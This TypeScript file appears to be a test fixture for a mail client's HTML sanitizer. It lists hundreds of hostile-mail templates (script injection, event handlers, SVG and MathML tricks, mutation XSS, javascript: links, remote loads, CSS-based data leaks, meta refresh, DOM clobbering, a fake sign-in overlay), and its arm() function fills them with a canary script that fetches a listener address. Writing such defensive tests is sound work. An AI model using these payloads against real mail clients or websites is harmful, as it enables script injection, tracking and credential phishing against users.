/** One hostile mail: `{run}` stands for script that betrays itself, `{url}` for an address where a request would be seen. */
export interface HostileMail {
  name: string;
  html: string;
}

const family = (name: string, bodies: readonly string[]): HostileMail[] => bodies.map((html, n) => ({ name: `${name} ${n + 1}`, html }));

const scripts = family('script', [
  '<script>{run}</script>', '<SCRIPT>{run}</SCRIPT>', '<script src="{url}"></script>', '<script\n>{run}</script\n>', '<script/x>{run}</script>', '<scr<script>ipt>{run}</scr</script>ipt>',
  '<script type="module">{run}</script>', '<script type="text/javascript" async defer>{run}</script>', '<script>//<![CDATA[\n{run}\n//]]></script>', '<script><!--\n{run}\n//--></script>',
  '<<script>{run}//<</script>', '<script x=">" >{run}</script>', '"><script>{run}</script>', '\'"--></style></script><script>{run}</script>', '<script src="data:text/javascript,{run}"></script>',
  '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{url}"]}]}</script>', '<script type="importmap">{"imports":{"x":"{url}"}}</script><script type="module">import "x"</script>',
  '<script>0</script><script>{run}</script>', '<body><script>{run}</script></body>', '<html><head><script>{run}</script></head><body>x</body></html>', '<noscript><script>{run}</script></noscript>', '<xss><script>{run}</script></xss>',
]);

/** Every handler on an element it fires on by itself or when it is touched. */
const handlers = family('event handler', [
  '<img src=x onerror="{run}">', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{run}">', '<IMG SRC=x OnErRoR={run}>', '<img src=x onerror\n=\n"{run}">', '<img/src=x/onerror="{run}">', '<img src=x:x onerror="{run}"//',
  '<img """><img src=x onerror="{run}">', '<img src=`x`onerror="{run}">', '<img src=x onerror="&#123;{run}&#125;">', '<img src=x onerror="eval(atob(\'{b64}\'))">', '<body onload="{run}">', '<body onpageshow="{run}">', '<body onfocus="{run}" tabindex=0 autofocus>',
  '<body onhashchange="{run}"><a href="#x">x</a>', '<body onscroll="{run}"><div style="height:4000px"></div><input autofocus>', '<body onresize="{run}">', '<body onmessage="{run}">', '<body onbeforeunload="{run}">', '<body onunload="{run}">',
  '<input onfocus="{run}" autofocus>', '<textarea onfocus="{run}" autofocus>x</textarea>', '<select onfocus="{run}" autofocus><option>x</select>', '<button onfocus="{run}" autofocus>x</button>', '<keygen onfocus="{run}" autofocus>',
  '<div onfocus="{run}" tabindex=1 autofocus>x</div>', '<a onmouseover="{run}" href="#">x</a>', '<p onmouseenter="{run}">x</p>', '<p onpointerenter="{run}">x</p>', '<b onclick="{run}">x</b>', '<i oncontextmenu="{run}">x</i>', '<u ondblclick="{run}">x</u>',
  '<div contenteditable onbeforeinput="{run}">x</div>', '<div style="animation:x 1s" onanimationstart="{run}"></div><style>@keyframes x{}</style>', '<div style="transition:color 1s" ontransitionend="{run}">x</div>', '<details open ontoggle="{run}"><summary>x</summary></details>',
  '<video src=x onerror="{run}"></video>', '<video><source onerror="{run}" src=x></video>', '<audio src=x onerror="{run}"></audio>', '<object data=x onerror="{run}"></object>', '<iframe onload="{run}"></iframe>', '<embed src=x onload="{run}">', '<link rel=stylesheet href="{url}" onerror="{run}">',
  '<marquee onstart="{run}">x</marquee>', '<marquee loop=1 width=0 onfinish="{run}">x</marquee>', '<form onsubmit="{run}"><button>x</button></form>', '<dialog open onclose="{run}"><form method=dialog><button>x</button></form></dialog>', '<div onwheel="{run}" style="height:400px">x</div>',
  '<div onbeforematch="{run}" hidden=until-found>x</div>', '<input type=image src=x onerror="{run}">', '<table background="{url}" onload="{run}"><td onclick="{run}">x</td></table>', '<p oncopy="{run}" oncut="{run}" onpaste="{run}">x</p>', '<x onclick="{run}" id=x tabindex=1>x</x>',
]);

const vectors = family('svg', [
  '<svg onload="{run}"></svg>', '<svg><script>{run}</script></svg>', '<svg><script href="{url}"/></svg>', '<svg><script xlink:href="data:,{run}"/></svg>', '<svg><a xlink:href="javascript:{run}"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin="{run}" attributeName=x dur=1s></svg>', '<svg><a><animate attributeName=href values="javascript:{run}"/><text x=20 y=20>x</text></a></svg>', '<svg><set attributeName="onmouseover" to="{run}"/></svg>', '<svg><foreignObject><img src=x onerror="{run}"></foreignObject></svg>',
  '<svg><image href="{url}"/></svg>', '<svg><use href="{url}#x"/></svg>', '<svg><use href="data:image/svg+xml;base64,{svg64}#x"/></svg>', '<svg><style>*{background:url({url})}</style></svg>', '<svg><desc><![CDATA[</desc><script>{run}</script>]]></svg>', '<svg><title><style></title><img src=x onerror="{run}"></style></svg>',
  '<img src="data:image/svg+xml;base64,{svg64}">', '<img src="data:image/svg+xml,<svg onload={run}>">', '<object data="data:image/svg+xml;base64,{svg64}"></object>', '<embed src="data:image/svg+xml;base64,{svg64}">', '<svg><feImage href="{url}"/></svg>', '<svg></p><style><a id="</style><img src=x onerror={run}>">',
]);

const maths = family('mathml', [
  '<math href="javascript:{run}">x</math>', '<math><mi xlink:href="javascript:{run}">x</mi></math>', '<math><annotation-xml encoding="text/html"><img src=x onerror="{run}"></annotation-xml></math>', '<math><mtext><script>{run}</script></mtext></math>', '<math><maction actiontype="statusline" xlink:href="javascript:{run}">x</maction></math>',
  '<math><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror={run}&gt;">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=\'{run}\'>"></style></h1>',
]);

/** Markup that changes its meaning when it is read a second time. */
const mutations = family('mutation', [
  '<noscript><p title="</noscript><img src=x onerror={run}>">', '<style><style /><img src=x onerror={run}>', '<title><img title="</title><img src=x onerror={run}>">', '<textarea><img title="</textarea><img src=x onerror={run}>">', '<xmp><p title="</xmp><img src=x onerror={run}>">',
  '<iframe><p title="</iframe><img src=x onerror={run}>">', '<noembed><p title="</noembed><img src=x onerror={run}>">', '<noframes><p title="</noframes><img src=x onerror={run}>">', '<listing>&lt;img src=x onerror={run}&gt;</listing>', '<plaintext><img src=x onerror={run}>',
  '<select><template><img src=x onerror={run}></template></select>', '<template><img src=x onerror={run}></template>', '<div><template shadowrootmode=open><script>{run}</script><img src=x onerror={run}></template></div>', '<template shadowrootmode="open"><style>@import "{url}"</style></template>', '<table><td><form><table><svg></form><img src=x onerror={run}>',
  '<table><a href="javascript:{run}">x</table>', '<p id="`` onmouseover={run}">x</p>', '<img alt="``onload={run}" src=x>', '<!--><img src=x onerror={run}>-->', '<!-- --!><img src=x onerror={run}> -->', '<!--[if gte IE 4]><script>{run}</script><![endif]-->', '<![CDATA[<img src=x onerror={run}>]]>',
  '<?xml version="1.0"?><?php <img src=x onerror={run}>?>', '<a title="a&quot;&gt;&lt;img src=x onerror={run}&gt;">x</a>', '<a href="x" title=\'"><img src=x onerror={run}>\'>x</a>', '<b <script>{run}</script>0', '<div title="&amp;lt;img src=x onerror={run}&amp;gt;">&amp;lt;img src=x onerror={run}&amp;gt;</div>', '&lt;script&gt;{run}&lt;/script&gt;',
  '<a\u0000 href="java\u0000script:{run}">x</a><scr\u0000ipt>{run}</scr\u0000ipt>', '<s\u0000vg/onl\u0000oad={run}>', '<option><style></option></select><img src=x onerror={run}></style>', '<svg><p><style><g title="</style><img src onerror={run}>">', '<frameset><frame src="javascript:{run}"></frameset>',
]);

const schemes = family('scheme', [
  '<a href="javascript:{run}">x</a>', '<a href="JaVaScRiPt:{run}">x</a>', '<a href=" javascript:{run}">x</a>', '<a href="java\tscript:{run}">x</a>', '<a href="java\nscript:{run}">x</a>', '<a href="&#106;avascript:{run}">x</a>', '<a href="&#x6A;&#x61;vascript&colon;{run}">x</a>', '<a href="javascript&colon;{run}">x</a>',
  '<a href="\u0001javascript:{run}">x</a>', '<a href="vbscript:msgbox(1)">x</a>', '<a href="data:text/html,<script>{run}</script>">x</a>', '<a href="data:text/html;base64,{html64}">x</a>', '<a href="blob:https://parley.invalid/x">x</a>', '<a href="file:///etc/passwd">x</a>', '<a href="view-source:{url}">x</a>', '<a href="//evil.example">x</a>',
  '<a href="parley://app/">x</a>', '<a href="https://parley.invalid/">x</a>', '<a href="chrome://settings">x</a>', '<a href="about:blank">x</a>', '<a href="https://bank.example@evil.example/">x</a>', '<a href="x" ping="{url}">x</a>', '<a href="javascript:{run}" target="_top">x</a>', '<a href="{url}" download>x</a>',
  '<area href="javascript:{run}" shape=default>', '<map name=m><area href="javascript:{run}" shape=rect coords=0,0,99,99></map><img usemap="#m" src=x width=99 height=99>', '<img src="javascript:{run}">', '<img lowsrc="javascript:{run}" dynsrc="javascript:{run}">', '<table background="javascript:{run}"><td>x</td></table>', '<blockquote cite="javascript:{run}">x</blockquote>', '<q cite="{url}">x</q>',
]);

const loads = family('load', [
  '<img src="{url}">', '<img srcset="{url} 1x, {url} 2x">', '<picture><source srcset="{url}"><img src=x></picture>', '<img src="//{host}/x">', '<img src="http:{host}">', '<input type=image src="{url}">', '<video poster="{url}" src="{url}" autoplay></video>', '<audio src="{url}" autoplay></audio>', '<track src="{url}">',
  '<body background="{url}">', '<table background="{url}"><tr background="{url}"><td background="{url}">x</td></tr></table>', '<link rel=stylesheet href="{url}">', '<link rel=preload as=image href="{url}">', '<link rel=prefetch href="{url}">', '<link rel=preconnect href="{url}">', '<link rel=dns-prefetch href="{url}">', '<link rel=modulepreload href="{url}">', '<link rel=icon href="{url}">',
  '<link rel=manifest href="{url}">', '<iframe src="{url}"></iframe>', '<iframe srcdoc="<script>{run}</script>"></iframe>', '<iframe srcdoc="<img src={url}>"></iframe>', '<object data="{url}"></object>', '<object type="text/html" data="{url}"><param name=x value="{url}"></object>', '<embed src="{url}">', '<applet code="{url}" archive="{url}"></applet>',
  '<frameset><frame src="{url}"></frameset>', '<bgsound src="{url}">', '<layer src="{url}"></layer>', '<portal src="{url}"></portal>', '<fencedframe src="{url}"></fencedframe>', '<img src="{url}" loading=eager fetchpriority=high crossorigin>', '<img src="cid:{url}">', '<image src="{url}">', '<isindex src="{url}" type=image>', '<input type=text value=x list=l><datalist id=l><img src="{url}"></datalist>', '<menuitem icon="{url}">',
]);

const styles = family('css', [
  '<style>body{background:url({url})}</style>', '<style>@import "{url}";</style>', '<style>@import url({url});</style>', '<style>@font-face{font-family:x;src:url({url})}*{font-family:x}</style>', '<div style="background:url({url})">x</div>', '<div style="background-image:url(\'{url}\')">x</div>', '<div style="background:u\\72l({url})">x</div>', '<div style="background:/**/url/**/({url})">x</div>',
  '<div style="background:image-set(\'{url}\' 1x)">x</div>', '<div style="background:-webkit-image-set(url({url}) 1x)">x</div>', '<div style="background:cross-fade(url({url}),url({url}),50%)">x</div>', '<div style="list-style:url({url}) inside;display:list-item">x</div>', '<div style="content:url({url})">x</div>', '<div style="cursor:url({url}),auto">x</div>', '<div style="border-image:url({url}) 30">x</div>',
  '<div style="mask:url({url});-webkit-mask:url({url});clip-path:url({url});filter:url({url})">x</div>', '<div style="shape-outside:url({url});float:left;width:9px;height:9px">x</div>', '<div style="--x:url({url});background:var(--x)">x</div>', '<div style="background:attr(title url)" title="{url}">x</div>', '<div style="width:expression({run})">x</div>', '<div style="behavior:url({url})">x</div>', '<div style="-moz-binding:url({url})">x</div>',
  '<style>input[value^=a]{background:url({url}?a)}</style><input value=abc>', '<style>a:visited{background:url({url})}</style><a href="https://example.com">x</a>', '<div style="position:fixed;inset:0;z-index:99999;background:#fff"><a href="{url}">Your session has ended, sign in</a></div>', '<div style="font-family:\'x;}</style><script>{run}</script>\'">x</div>', '<div style="x:\\"onclick={run};">x</div>', '<p style="color:red;background:url(&quot;{url}&quot;)">x</p>',
  '<style>@media print{body{background:url({url})}}</style>', '<style>@namespace x url({url});</style>', '<style>:root{--x:url({url})}::after{content:var(--x)}</style>', '<style></style/><img src=x onerror={run}>', '<div style="background:url({url}" >x</div>', '<div style=\'background:URL("{url}")\'>x</div>', '<div style="animation:x 1s;offset-path:url({url})">x</div>', '<STYLE TYPE="text/javascript">{run}</STYLE>',
]);

const navigations = family('navigation', [
  '<meta http-equiv="refresh" content="0;url={url}">', '<meta http-equiv="refresh" content="0;url=javascript:{run}">', '<meta http-equiv="refresh" content="0;url=data:text/html;base64,{html64}">', '<META HTTP-EQUIV="Set-Cookie" CONTENT="x=1"><meta http-equiv=refresh content="0; {url}">', '<meta http-equiv="Content-Security-Policy" content="script-src *"><script>{run}</script>', '<meta name=referrer content=unsafe-url><img src="{url}">',
  '<base href="{url}/"><a href="x">x</a><img src="x">', '<base target="_top"><a href="{url}">x</a>', '<form action="{url}"><input name=x value=1><button autofocus>Log in</button></form>', '<form id=f action="javascript:{run}"></form><button form=f>x</button>', '<form action="{url}"><input type=submit formaction="javascript:{run}"></form>', '<button formaction="{url}" form=f>x</button>', '<isindex action="javascript:{run}" type=image>', '<input form=f formaction="javascript:{run}" type=submit>',
  '<a href="{url}" target="_blank">x</a>', '<a href="{url}" target="_parent">x</a>', '<a href="{url}" target="_top">x</a>', '<iframe name=x></iframe><a target=x href="javascript:{run}">x</a>', '<a id=parley href="{url}">x</a><form name=parley><input name=invoke></form><img name=parley>', '<a id=document name=cookie>x</a><img name=body><form name=getElementById></form>', '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="{url}">x</a>',
  '<button popovertarget=p>x</button><div popover id=p onbeforetoggle="{run}">x</div>', '<button command=show-modal commandfor=d>x</button><dialog id=d ontoggle="{run}">x</dialog>', '<input type=hidden oncontentvisibilityautostatechange="{run}" style="content-visibility:auto">', '<a href="#" onclick="{run}" accesskey=x>x</a>',
]);

/** Each stands for a way a mail has been used, or could be, to run, load, navigate or reach out. */
export const hostileMails: readonly HostileMail[] = [...scripts, ...handlers, ...vectors, ...maths, ...mutations, ...schemes, ...loads, ...styles, ...navigations];

/** A hostile mail with its script and its address in place. The script tells whoever listens and asks for the address. */
export function arm(html: string, n: number, url: string): string {
  const hit = `${url}/${n}`;
  const run = `top.postMessage('canary ${n}','*');new Image().src='${hit}';fetch('${hit}');document.title='canary';top.location='${hit}'`;
  const base64 = (text: string): string => Buffer.from(text).toString('base64');
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="${run}"><script>${run}</script><image href="${hit}"/></svg>`;
  return html.replaceAll('{run}', run).replaceAll('{url}', hit).replaceAll('{host}', new URL(url).host).replaceAll('{b64}', base64(run)).replaceAll('{svg64}', base64(svg)).replaceAll('{html64}', base64(`<script>${run}</script>`));
}
